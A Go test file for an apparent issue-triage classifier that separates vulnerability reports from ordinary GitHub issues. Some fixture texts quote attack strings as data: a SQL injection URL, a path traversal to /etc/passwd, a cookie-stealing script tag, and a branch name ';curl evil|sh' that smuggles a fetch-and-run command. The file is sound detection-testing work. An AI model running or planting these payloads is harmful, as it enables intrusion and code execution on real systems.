package rules

import "testing"

// securityCase is one issue as filed: title and body. The reports are modelled on public
// vulnerability reports filed as GitHub issues (paraphrased; e.g. knowledgefutures/pubplatform#1273,
// vakata/jstree#1185, bigbluebutton/bigbluebutton#14718, 2sic/2sxc#2208, Formstone/formstone#286,
// RedisBloom/RedisBloom#722, flatCore/flatCore-CMS#28, publify/publify#1097); the ordinary
// issues on issues that mention security in passing (openwisp/ansible-openwisp2#340,
// jsfiddle/jsfiddle-users#1322, pixelated/pixelated-user-agent#304, hackclub/hack.af#15,
// docsy/docsy#145, Codecademy/docs#552, se-edu/learningresources#115) and everyday bug reports.
type securityCase struct{ title, body string }

var securityReports = []securityCase{
	{"Multiple Cross-Site-Scripting (XSS) vulnerabilities in the platform", "I identified several XSS issues. Since these are security-related bugs, how would you like me to report them? An attacker can take over a victim's account."},
	{"Security Vulnerability in Demo Section", "I have discovered a security vulnerability in the demo section of the website. I do not want to disclose this to the public, who can I contact?"},
	{"Security issue (XSS) found", "I reported a XSS vulnerability two weeks ago to the security address but got no response. Can you provide another secure way to communicate?"},
	{"Security Issue - XSS in /dist/dnn/ui.html", "I am not sure if this is the proper channel to disclose a security vulnerability. It would not execute XSS payloads in the user's browser if fixed."},
	{"XSS Vulnerability", "We are a security firm. During a pentest we found a XSS vulnerability that affects the default installation. Please tell us a secure channel to send more details."},
	{"[SECURITY] Vulnerability lead to Remote Code Execution", "I have found a security vulnerability in the latest codebase. An attacker could leverage it to achieve Remote Code Execution. PoC video attached."},
	{"SQL Injection vulnerability (Content DB) in v1.4.6", "SQL injection allows an attacker to run malicious SQL statements. The exploit URL is /page?id=' OR 1=1 --, which leaks the content database."},
	{"Security issues", "Recently I have found multiple security vulnerabilities and reported them on huntr: stored XSS in the comment editor."},
	{"Vul xss", "I've identified an XSS vulnerability in the application. How can I report it?"},
	{"Path traversal in static file handler", "Requesting /static/..%2f..%2fetc/passwd returns the file. An unauthenticated attacker can read arbitrary files on the server."},
	{"Remote code execution via YAML config loading", "The loader uses yaml.load without SafeLoader, so a malicious config file leads to code execution. Proof of concept below."},
	{"SSRF in the webhook preview feature", "The preview fetches any URL the user gives, including http://169.254.169.254/. An attacker can reach internal services. This is a security issue."},
	{"Stored XSS in issue titles", "A title like <script>alert(1)</script> is rendered unescaped on the dashboard, so an attacker can steal the session cookie of any admin who opens it."},
	{"Authentication bypass when the password is empty", "Login succeeds with any username and an empty password when LDAP is configured. This is a critical vulnerability."},
	{"CVE-2024-12345: prototype pollution in merge()", "merge() copies __proto__ keys, so a malicious payload can pollute Object.prototype. Affects all versions before 3.2."},
	{"Command injection in the git clone helper", "The branch name is passed to sh -c without quoting; an attacker who controls the branch name can execute commands. exploit: branch named ;curl evil|sh"},
	{"Privilege escalation: any member can become owner", "A member can call the role endpoint on themselves and become owner. This vulnerability lets attackers take over organisations."},
	{"Insecure deserialization in session cookie", "The session cookie is unpickled on the server. A crafted cookie gives remote code execution. I can share a PoC privately."},
	{"Open redirect on /login?next=", "next accepts absolute URLs, so an attacker can send a victim a login link that redirects to a phishing page."},
	{"Security: JWT signature not verified", "Tokens signed with alg none are accepted. Attackers can forge tokens for any user; this is a serious security flaw."},
	{"XXE in SVG upload", "Uploading an SVG with an external entity reads local files: XML external entity injection. Vulnerable since 2.0."},
	{"Arbitrary file upload leads to RCE", "The avatar upload accepts .php files that are then served and executed. I have a working exploit."},
	{"CSRF on account settings", "The settings form has no CSRF token, so a malicious website can change a victim's e-mail address. Vulnerability confirmed on 4.1."},
	{"ReDoS in email validation regex", "The regex backtracks catastrophically: a 30-character input takes minutes. Attackers can use it for denial of service; this is a vulnerability."},
	{"Heap buffer overflow in PNG decoder", "A crafted PNG causes a heap overflow (ASan report below). This looks exploitable for code execution."},
	{"Found a vulnerability, where to report?", "Hi, I found a vulnerability that allows reading other users' private notes (IDOR). Where can I report it privately?"},
	{"Sandbox escape in the plugin runtime", "Plugins can reach the host filesystem through the debug API. A malicious plugin can escape the sandbox. Proof of concept attached."},
	{"API keys exposed in client bundle", "The production bundle contains the admin API key, a sensitive data exposure. Any attacker can use it against the API."},
	{"Account takeover through password reset", "The reset token is the user id in base64, so an attacker can reset anyone's password. Security vulnerability, please fix."},
	{"Unauthenticated users can delete posts", "DELETE /api/posts/:id has no auth check. Unauthenticated attackers can delete any post; this is a security hole."},
	{"GHSA-abcd-1234-wxyz also affects the fork", "The same vulnerability (SQL injection in the search endpoint) exists here; the attacker-controlled sort parameter is concatenated into the query."},
	{"Session fixation after login", "The session id is not rotated after login. An attacker who sets the cookie before login hijacks the session. Security issue."},
}

var ordinaryIssues = []securityCase{
	{"[feature] Allow to configure Content-Security-Policy", "Probably default-src 'self' could be enough, but let's double check that."},
	{"Missing support for Content-Security-Policy header (CSP)", "Please add support for defining a CSP header for the result frame. Allowing custom CSP headers will not cause any security problems."},
	{"As a person concerned about security I want the Content-Security-Policy header to be set", "This header might help with some kind of injection attacks where malicious JavaScript is downloaded. It would be nice to have."},
	{"Dependency bump", "Fixes CVE-2020-8116, CVE-2020-8203 dependency warnings. Tested locally."},
	{"npm audit fix to bump for CVEs", "GitHub's security feature informed me that some of the deps needed a bump. This patch was created by npm audit fix."},
	{"Bump lodash from 4.17.15 to 4.17.21", "Bumps lodash to 4.17.21, which fixes a prototype pollution vulnerability (CVE-2020-8203)."},
	{"Upgrade jackson-databind to 2.13.4", "The current version is flagged by snyk for a deserialization vulnerability."},
	{"[Entry] SQL: Injections", "Write a concept entry that defines SQL injections and why they are harmful. Include common examples and ways to prevent injection."},
	{"Update SQL injection page", "The page on SQL injection should explain with an example how a malicious user can inject a query."},
	{"Update the security docs", "The security section of the docs still mentions the old token format."},
	{"Add a SECURITY.md", "We should have a security policy so people know how to report vulnerabilities."},
	{"Enable Dependabot security updates", "Let's turn on dependabot so we get PRs for vulnerable dependencies."},
	{"Crash when the config file is empty", "Steps: create an empty triagebot.yml, run serve. It panics with a nil pointer."},
	{"Dark mode", "It would be great to have a dark theme for the dashboard."},
	{"Typo in README", "'recieve' should be 'receive' in the quick start."},
	{"Login page is slow", "The login page takes 5 seconds to load on a cold start."},
	{"Support SAML authentication", "Our company uses SAML for single sign-on. Please add support for it."},
	{"Add rate limiting to the API", "It would help protect the API from abuse if requests were rate-limited per token."},
	{"Security headers missing in default nginx config", "The example nginx config should set X-Frame-Options and HSTS. Enhancement for the deploy docs."},
	{"Password field should have autocomplete=new-password", "Browsers offer to fill the old password on the change-password page."},
	{"Feature request: two-factor authentication", "Please add 2FA support for admin accounts, it would be great for security."},
	{"Stack overflow on deeply nested JSON", "Parsing a 10,000-level nested array crashes with a stack overflow (goroutine stack exceeds limit)."},
	{"Question: is the project affected by log4shell?", "We only use the Go version, so I guess not, but can you confirm?"},
	{"Rename 'security' tab to 'access'", "The settings tab named Security only contains access tokens; 'Access' is clearer."},
	{"Test suite fails on Windows", "TestPaths fails because of backslashes in the expected output."},
	{"Support for Go 1.26", "The module says go 1.25; please update to 1.26."},
	{"Docs: explain how tokens are stored", "The documentation should say whether tokens are encrypted at rest."},
	{"Escape HTML in the preview", "The markdown preview shows &lt; as text instead of <. Probably double escaping."},
	{"Add CSRF middleware example to the tutorial", "The tutorial should show how to add CSRF protection with the middleware."},
	{"Memory leak in the websocket handler", "RSS grows by 50 MB per hour with 100 idle connections."},
	{"Audit log should record label changes", "For compliance we need label changes in the audit log."},
	{"Upgrade to OpenSSL 3", "OpenSSL 1.1 is end of life; upgrade the base image to OpenSSL 3."},
	{"Unable to install on Alpine", "pip install fails with a compiler error on Alpine 3.19."},
	{"Make session timeout configurable", "Add an option to configure the session timeout; 30 minutes is too short for us."},
	{"Wrong timezone in notifications", "Notifications show UTC instead of the user's timezone."},
	{"Add SBOM to releases", "Publishing an SBOM would help users scanning for vulnerable dependencies with trivy."},
	{"Sign release artifacts", "Please add cosign signatures to release artifacts, as a supply-chain security enhancement."},
	{"The word 'exploit' in the game description", "The tooltip says 'exploit the enemy's weakness'; a translator asks whether to keep it."},
	{"Clarify the threat model in the README", "Readers ask whether an attacker with repository write access is in scope. Document it."},
	{"Flaky test TestRetry", "TestRetry fails about 1 in 50 runs on CI with a timeout."},
	{"Support Postgres 17", "Migrations fail on Postgres 17 with a syntax error."},
	{"Add 'security' label to the issue templates", "So that maintainers can filter security-related questions."},
	{"CVE scanner reports a false positive", "trivy reports CVE-2023-1234 for our image, but the package is not used at runtime."},
	{"Document how to report a vulnerability", "Add a section to the docs about our disclosure process and the security@ address."},
	{"Improve error message for invalid token", "An expired token gives 'unauthorized' without saying it expired."},
	{"Add content security policy nonce support", "Feature request: generate a nonce per request for inline scripts."},
	{"Keyboard shortcuts", "Add j/k navigation to the issue list."},
	{"Export to CSV", "It would be nice to export the issue list to CSV."},
	{"Translation to German", "I can help translate the UI into German."},
	{"Release 2.0 checklist", "Tag, changelog, docker image, announce. Also run govulncheck before tagging."},
	{"Proof of concept for the new plugin API", "Here's a small proof of concept showing how plugins could register commands. Feedback welcome."},
	{"Attackers in the tower defence demo move too fast", "The attacker units ignore the slow-down tower in level 3."},
}

func TestSecuritySignals(t *testing.T) {
	if len(securityReports) < 30 || len(ordinaryIssues) < 50 {
		t.Fatalf("the table needs at least 30 reports and 50 ordinary issues, has %d and %d", len(securityReports), len(ordinaryIssues))
	}
	for _, c := range securityReports {
		if m := matchSecurity(c.title, c.body, true, nil); !m.flagged() {
			t.Errorf("report not recognised (score %d, %v): %q", m.score, m.signals, c.title)
		}
	}
	for _, c := range ordinaryIssues {
		if m := matchSecurity(c.title, c.body, true, nil); m.flagged() {
			t.Errorf("ordinary issue flagged (score %d, %v): %q", m.score, m.signals, c.title)
		}
	}
}

func TestSecuritySignalsIgnoreQuotesAndCode(t *testing.T) {
	body := "> An attacker can exploit this XSS vulnerability\n\n```\nCVE-2024-0001 remote code execution exploit\n```\nThe button is misaligned."
	if m := matchSecurity("Button misaligned", body, true, nil); m.flagged() {
		t.Errorf("quoted and fenced text counted: %v", m.signals)
	}
}

func TestSecurityPatterns(t *testing.T) {
	if m := matchSecurity("Leaked hunter2", "the staging password is in the logs", true, []string{`password is in the logs`}); !m.flagged() {
		t.Error("a configured pattern does not flag")
	}
	if m := matchSecurity(securityReports[0].title, securityReports[0].body, false, nil); m.flagged() {
		t.Error("builtin_patterns: false still flags")
	}
}
